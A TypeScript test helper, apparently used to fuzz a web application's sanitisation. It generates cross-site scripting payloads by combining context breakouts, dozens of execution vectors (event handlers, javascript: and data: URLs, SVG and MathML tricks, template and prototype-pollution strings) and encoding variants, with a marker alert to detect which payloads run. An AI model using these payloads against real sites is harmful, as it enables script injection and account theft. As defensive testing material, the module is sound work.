import { dice } from '../../scripts/sandbox/random.ts';

/** What each payload does when it runs; its number says which one it was. */
const codeOf = (id: number): string => `window.__pwned=${id};alert(${id})`;

/** How a text breaks out of where it stands: an attribute, a comment, a raw text element, a script's string. */
const BREAKS = [
  ...[
    '',
    '"',
    "'",
    '`',
    '>',
    '">',
    "'>",
    '`>',
    '"/>',
    "'/>",
    ' ',
    '/',
    '-->',
    '--!>',
    ']]>',
    '<!--',
    '<![CDATA[',
  ],
  ...[
    '</script>',
    '</ScRiPt\t>',
    '</style>',
    '</title>',
    '</textarea>',
    '</noscript>',
    '</template>',
    '</select>',
  ],
  ...[
    '</svg>',
    '</math>',
    '</button></a>',
    '\\"',
    "\\'",
    '*/',
    '${',
    '{{',
    ');',
    '\u2028',
    '\u2029',
    '\u0000',
    '\r\n\r\n',
  ],
  ...[
    '&quot;>',
    '&#34;>',
    '&#x27;>',
    '%22%3E',
    '\\u0022\\u003e',
    '\\x3e',
    '<!--<script>',
    '<noscript><p title="</noscript>',
  ],
  ...[
    '<style><a id="</style>',
    '<textarea><p title="</textarea>',
    '<svg></p><style><a id="</style>',
    '<math><mtext><table><mglyph><style><!--</style>',
  ],
];

/** What would then run, with or without a person's doing. */
const RUNNING: ((code: string) => string)[] = [
  ...['script', 'ScRiPt', 'script type=module', 'script\n'].map(
    (tag) => (code: string) => `<${tag}>${code}</script>`,
  ),
  ...['error', 'ERROR', 'error\t', 'error\n'].map(
    (event) => (code: string) => `<img src=x on${event}="${code}">`,
  ),
  (code) => `<img/src='x'/onerror='${code}'>`,
  (code) => `<img src=x onerror=${code.replace(/;/g, '&#59;')}//`,
  (code) => `<image href=x onerror="${code}">`,
  (code) => `<svg onload="${code}">`,
  (code) => `<svg/onload='${code}'/>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><animate onbegin="${code}" attributeName=x dur=1s>`,
  (code) => `<svg><set attributeName=onmouseover to="${code}">`,
  (code) => `<svg><a xlink:href="javascript:${code}"><text y=9>x</text></a></svg>`,
  (code) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${code}'/>#x">`,
  (code) => `<svg><foreignObject><iframe srcdoc="<script>${code}</script>">`,
  (code) => `<math href="javascript:${code}">x</math>`,
  (code) => `<math><annotation-xml encoding="text/html"><img src=x onerror="${code}">`,
  (code) => `<body onload="${code}" onpageshow="${code}">`,
  (code) => `<details open ontoggle="${code}"><summary>x</summary>`,
  (code) => `<input autofocus onfocus="${code}">`,
  (code) => `<select autofocus onfocus="${code}"><textarea autofocus onfocus="${code}">`,
  (code) =>
    `<x-pwned contenteditable autofocus tabindex=1 onfocus="${code}" onmouseover="${code}">x</x-pwned>`,
  (code) => `<video><source onerror="${code}"></video>`,
  (code) => `<audio src=x onerror="${code}">`,
  (code) => `<marquee onstart="${code}">x</marquee>`,
  (code) => `<style onload="${code}">*{}</style>`,
  (code) => `<link rel=stylesheet href="data:text/css,*{}" onload="${code}">`,
  (code) => `<iframe srcdoc="&lt;script&gt;parent.${code}&lt;/script&gt;"></iframe>`,
  (code) => `<iframe src="javascript:parent.${code}"></iframe>`,
  (code) => `<iframe onload="${code}"></iframe>`,
  (code) => `<object data="javascript:${code}"></object>`,
  (code) => `<object data="data:text/html,<script>${code}</script>" onerror="${code}"></object>`,
  (code) => `<embed src="javascript:${code}">`,
  (code) => `<a href="javascript:${code}">x</a>`,
  (code) => `<a href="java\tscript:${code}" id=x-pwned>x</a>`,
  (code) => `<a href="&#106;avascript:${code}">x</a>`,
  (code) => `<form action="javascript:${code}"><button>x</button></form>`,
  (code) => `<button formaction="javascript:${code}">x</button>`,
  (code) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  (code) => `<base href="javascript:/${code}//"><a href=x>x</a>`,
  (code) => `<script src="data:text/javascript,${code}"></script>`,
  (code) => `<template shadowrootmode=open><img src=x onerror="${code}"></template>`,
  (code) => `<dialog open onclose="${code}"><form method=dialog><button autofocus>x</button></form></dialog>`,
  (code) => `<div style="animation:x" onanimationstart="${code}"><style>@keyframes x{}</style>`,
  (code) => `<div style="background:url(javascript:${code});width:expression(${code})">x</div>`,
  (code) => `<style>@import 'javascript:${code}';x{-moz-binding:url(data:,${code})}</style>`,
  (code) => ` onerror="${code}" onload="${code}" onfocus="${code}" autofocus onmouseover="${code}" x="`,
  (code) => ` onerror='${code}' onfocus='${code}' autofocus tabindex=1 x='`,
  (code) => `javascript:${code}`,
  (code) => `JaVaScRiPt:${code}//`,
  (code) => `\u0001javascript:${code}`,
  (code) => `data:text/html,<script>${code}</script>`,
  (code) => `vbscript:${code}`,
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `\${${code.replace(';', ',')}}`,
  (code) => `<%= ${code} %> #{${code}} [[${code}]]`,
  (code) => `",x:(function(){${code}})(),"y":"`,
  (code) => `\\";${code}//`,
  (code) => `';${code}//`,
  (code) => `-${code.replace(';', ',')}-`,
  (code) => `<form id=session><input name=user value="${code}"></form><a id=location href="x:${code}"></a>`,
  (code) => `<img name=body><img name=cookie><form name=querySelector><!--${code}-->`,
  (code) => `{"__proto__":{"innerHTML":"<img src=x onerror='${code}'>"}}`,
  (code) => `[x](javascript:${code}) ![x](x"onerror="${code})`,
];

const perHex = (text: string, write: (hex: string) => string): string =>
  text.replace(/[<>"'&/=]/g, (letter) => write(letter.charCodeAt(0).toString(16).padStart(2, '0')));

/** How it is written, for whoever decodes once more than is right. */
const WRITTEN: ((text: string) => string)[] = [
  ...Array.from({ length: 6 }, () => (text: string) => text),
  (text) => perHex(text, (hex) => `&#x${hex};`),
  (text) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;'),
  (text) => perHex(text, (hex) => `&amp;#x${hex};`),
  (text) => perHex(text, (hex) => `%${hex}`),
  (text) => perHex(text, (hex) => `%25${hex}`),
  (text) => perHex(text, (hex) => `\\u00${hex}`),
  (text) => perHex(text, (hex) => `\\x${hex}`),
  (text) => text.replace(/</g, '\uff1c').replace(/>/g, '\uff1e').replace(/"/g, '\uff02'),
  (text) => text.replace(/</g, '<\u200b').replace(/\ball/g, 'all'),
  (text) => text.replace(/</g, '<<'),
  (text) => text.replace(/</g, '\ud800<'),
];

/** `count` payloads, no two alike: each way of running in each way of breaking out and of being written, in a mixed order. */
export function xssPayloads(count: number, seed: number): string[] {
  const roll = dice(seed, 'xss');
  const found = new Set<string>();
  for (let id = 1; id <= count; id += 1) {
    // Each way of running comes in turn, so that a short run has them all.
    const run = RUNNING[id % RUNNING.length] as (code: string) => string;
    found.add(roll.pick(WRITTEN)(roll.pick(BREAKS) + run(codeOf(id))));
  }
  return [...found];
}

/** The same for what is an address in the back office. */
export const xssAddresses = (count: number): string[] =>
  Array.from({ length: count }, (_, at) => {
    const code = codeOf(100_000 + at);
    const schemes = [
      'javascript:',
      'JAVASCRIPT:',
      ' javascript:',
      'java\nscript:',
      'vbscript:',
      '\u0001javascript:',
    ];
    const others = [
      `data:text/html,<script>${code}</script>`,
      `/x" onerror="${code}`,
      `//evil.example/${code}`,
    ];
    return at % 3 === 0 ? (others[(at / 3) % others.length] ?? '') : `${schemes[at % schemes.length]}${code}`;
  });

/** The numbers of the payloads that a text holds. */
export const payloadsIn = (text: string): Set<number> =>
  new Set(Array.from(text.matchAll(/alert\((\d+)\)/g), ([, id]) => Number(id)));
